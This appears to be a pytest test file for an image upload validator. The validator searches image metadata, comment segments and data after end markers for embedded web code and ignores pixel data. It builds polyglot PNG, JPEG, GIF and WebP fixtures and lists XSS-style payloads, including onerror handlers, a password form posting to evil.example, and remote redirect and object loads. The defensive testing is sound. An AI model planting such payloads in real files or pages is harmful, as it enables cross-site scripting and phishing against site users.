"""Web code hidden in an image is found in its metadata and trailers, never in its pixel data.

Compressed pixels are noise in which any four bytes turn up sooner or later: a genuine photograph
whose pixel data happens to spell `<svg` must be accepted, while the same bytes in a comment, a
metadata chunk or after the end marker are refused.
"""

from __future__ import annotations

import io
import random
import struct
import zlib

import pytest
from PIL import Image

from assets.validation import UploadRejected, validate_upload
from assets.validation.dangerous import EMBEDDED_CODE_MARKERS
from assets.validation.image_regions import find_outside_pixels, readable_regions

from . import badfiles as make

CODE = b"<svg onload=alert(1)>"


def noise(size: tuple[int, int] = (400, 300), seed: int = 5) -> Image.Image:
    pixels = random.Random(seed).randbytes(size[0] * size[1] * 3)
    return Image.frombytes("RGB", size, pixels)


NOISY = {
    "PNG": lambda: make.encoded(noise(), "PNG", compress_level=1),
    "JPEG": lambda: make.encoded(noise(), "JPEG", quality=95),
    "GIF": lambda: make.encoded(noise().convert("P"), "GIF"),
    "WEBP": lambda: make.encoded(noise(), "WEBP", lossless=True),
    "AVIF": lambda: make.encoded(noise(), "AVIF", quality=90),
    "HEIF": lambda: make.encoded(noise(), "HEIF", quality=90),
}


@pytest.mark.parametrize("image_format", NOISY)
def test_pixel_data_is_left_out_of_the_search(image_format):
    data = NOISY[image_format]()
    regions = list(readable_regions(io.BytesIO(data), image_format, len(data)))
    searched = sum(end - start for start, end in regions)
    assert regions, "the file's structure was walked"
    assert searched < len(data) * 0.05, f"{searched} of {len(data)} bytes searched"


def _png_with_pixels_spelling(text: bytes) -> bytes:
    """A stored (uncompressed) palette PNG, which Pillow writes unfiltered: the pixel bytes
    appear in the file as they are."""
    image = Image.frombytes("P", (len(text), 1), text)
    image.putpalette(bytes(range(256)) * 3)
    return make.encoded(image, "PNG", compress_level=0)


def test_a_photo_whose_pixels_spell_web_code_is_accepted():
    data = _png_with_pixels_spelling(b"<svg<script<html")
    assert b"<svg" in data
    sniffed = validate_upload(io.BytesIO(data), filename="anh.png", allowed=("image",))
    assert (sniffed.mime, sniffed.width) == ("image/png", 16)


def _png_with_text_chunk(data: bytes, text: bytes) -> bytes:
    chunk = b"tEXt" + b"Comment\x00" + text
    packed = struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return data[:33] + packed + data[33:]


def _jpeg_with_comment(data: bytes, text: bytes) -> bytes:
    segment = b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text
    return data[:2] + segment + data[2:]


def _webp_with_xmp(data: bytes, text: bytes) -> bytes:
    chunk = b"XMP " + struct.pack("<I", len(text)) + text + b"\x00" * (len(text) % 2)
    body = data[12:] + chunk
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


HIDING_PLACES = {
    "PNG text chunk": ("PNG", lambda: _png_with_text_chunk(make.png(), CODE)),
    "after the PNG end": ("PNG", lambda: make.png() + CODE),
    "JPEG comment": ("JPEG", lambda: _jpeg_with_comment(make.jpeg(), CODE)),
    "after the JPEG end": ("JPEG", lambda: make.jpeg() + CODE),
    "after a second JPEG": ("JPEG", lambda: make.jpeg() + make.jpeg() + CODE),
    "GIF comment": ("GIF", lambda: make.gif_with_comment(CODE)),
    "WebP metadata": ("WEBP", lambda: _webp_with_xmp(make.encoded(make.picture(), "WEBP"), CODE)),
    "after the AVIF boxes": ("AVIF", lambda: make.encoded(make.picture(), "AVIF") + CODE),
}


@pytest.mark.parametrize("place", HIDING_PLACES)
def test_web_code_outside_the_pixels_is_found(place):
    image_format, build = HIDING_PLACES[place]
    data = build()
    assert find_outside_pixels(io.BytesIO(data), image_format, len(data), EMBEDDED_CODE_MARKERS)


@pytest.mark.parametrize("place", ["PNG text chunk", "JPEG comment", "after the JPEG end"])
def test_an_upload_hiding_web_code_is_refused(place):
    image_format, build = HIDING_PLACES[place]
    extension = {"PNG": "png", "JPEG": "jpg"}[image_format]
    with pytest.raises(UploadRejected) as refused:
        validate_upload(io.BytesIO(build()), filename=f"anh.{extension}", allowed=("image",))
    assert refused.value.code == "polyglot"


def test_a_file_that_cannot_be_walked_is_searched_whole():
    data = b"\x89PNG\r\n\x1a\n" + b"\xff" * 40 + CODE
    assert find_outside_pixels(io.BytesIO(data), "PNG", len(data), EMBEDDED_CODE_MARKERS)


TRAILING_WEB_CODE = [
    b"<img src=x onerror=alert(document.domain)>",
    b'<a href="javascript:alert(1)">tap</a>',
    b'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    b'<form action="https://evil.example/"><input name="password"></form>',
    b'<object data="https://evil.example/x.swf"></object>',
    b"<STYLE>@import 'https://evil.example/a.css'</STYLE>",
    b'<details open ontoggle="alert(1)">',
    b"<math><maction actiontype=statusline>x</maction></math>",
]


@pytest.mark.parametrize("code", TRAILING_WEB_CODE, ids=lambda code: code[:12].decode())
def test_a_png_with_web_code_after_its_end_is_refused(code):
    """A PNG carrying an <img onerror> page after IEND passed: sniffed as HTML it runs."""
    with pytest.raises(UploadRejected) as refused:
        validate_upload(io.BytesIO(make.png() + code), filename="anh.png", allowed=("image",))
    assert refused.value.code == "polyglot"
